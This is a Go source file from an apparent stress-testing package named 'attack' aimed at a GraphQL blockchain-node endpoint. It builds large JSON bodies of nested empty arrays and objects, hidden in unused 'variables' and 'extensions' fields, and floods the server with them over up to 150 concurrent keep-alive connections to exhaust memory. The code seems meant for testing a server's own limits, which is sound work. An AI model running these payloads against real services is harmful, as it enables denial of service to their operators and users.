package attack

import (
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// treeBytes is the size of a tree in JSON that leaves a body below Limits.BodyBytes.
const treeBytes = 120 << 10

// trees are bodies of JSON that takes many times its size when it is decoded. The
// operation in them needs nothing of it.
func trees(full bool) []attack {
	const asks, waits = `"query":"{info{version}}"`, `"query":"{blockchain{account(address:\"1000:` +
		`1111111111111111111111111111111111111111111111111111111111111111\"){info{balance}}}}"`
	lasting, clients := 1200*time.Millisecond, []int{48}
	if full {
		lasting, clients = 4*time.Second, []int{48, 96}
	}
	var all []attack
	for _, n := range clients {
		for _, shape := range []struct{ name, item string }{
			{"empty arrays", "[],"}, {"empty objects", "{},"}, {"objects of a key", `{"":0},`}, {"arrays in arrays", "[[[[[[[[]]]]]]]],"},
		} {
			items := strings.Repeat(shape.item, treeBytes/len(shape.item))
			tree := "[" + items[:len(items)-1] + "]"
			half := "[" + items[:len(items)/2/len(shape.item)*len(shape.item)-1] + "]"
			for _, place := range []struct{ name, body string }{
				{"variables that the operation does not have", `{` + asks + `,"variables":{"a":` + tree + `}}`},
				{"extensions", `{` + asks + `,"extensions":{"a":` + tree + `}}`},
				{"variables and extensions", `{` + asks + `,"variables":{"a":` + half + `},"extensions":{"a":` + half + `}}`},
			} {
				if !full && shape.item != "[]," && place.name != "extensions" {
					continue
				}
				all = append(all, pressed(fmt.Sprintf("%d connections of %s in %s", n, shape.name, place.name), lasting, n, place.body))
			}
		}
	}
	// A query that waits keeps what was read with it for as long.
	tree := "[" + strings.Repeat("[],", treeBytes/3) + "[]]"
	all = append(all, crowdedFor(lasting, "150 connections of arrays in variables of a query that waits", 150, func(s *site) (net.Conn, error) {
		c, err := s.dial()
		if err == nil {
			_, err = c.Write(request("POST", path, `{`+waits+`,"variables":{"a":`+tree+`}}`))
		}
		return c, err
	}, func(*site) error { return nil }))
	return all
}

// pressed has clients post a body on connections of their own, at once and again, and
// take the answers.
func pressed(name string, lasting time.Duration, n int, body string) attack {
	text := request("POST", path, body, "Connection: keep-alive")
	return crowdedFor(lasting, name, n, func(s *site) (net.Conn, error) {
		return s.repeat(together, func(int) []byte { return text })
	}, func(*site) error { return nil })
}

// together is the time between the texts of clients that send theirs at once: what
// many do together takes memory, and in between the processors are free for other
// families.
const together = 600 * time.Millisecond

// repeat opens a connection on which texts are sent, with pauses, and all answers
// are taken.
func (s *site) repeat(pause time.Duration, text func(i int) []byte) (net.Conn, error) {
	c, err := s.dial()
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Time{}) // until it is reset
	go func() { _, _ = io.Copy(io.Discard, c) }()
	go func() {
		for i := 0; ; i++ {
			if _, err := c.Write(text(i)); err != nil {
				return
			}
			time.Sleep(pause)
		}
	}()
	return c, nil
}
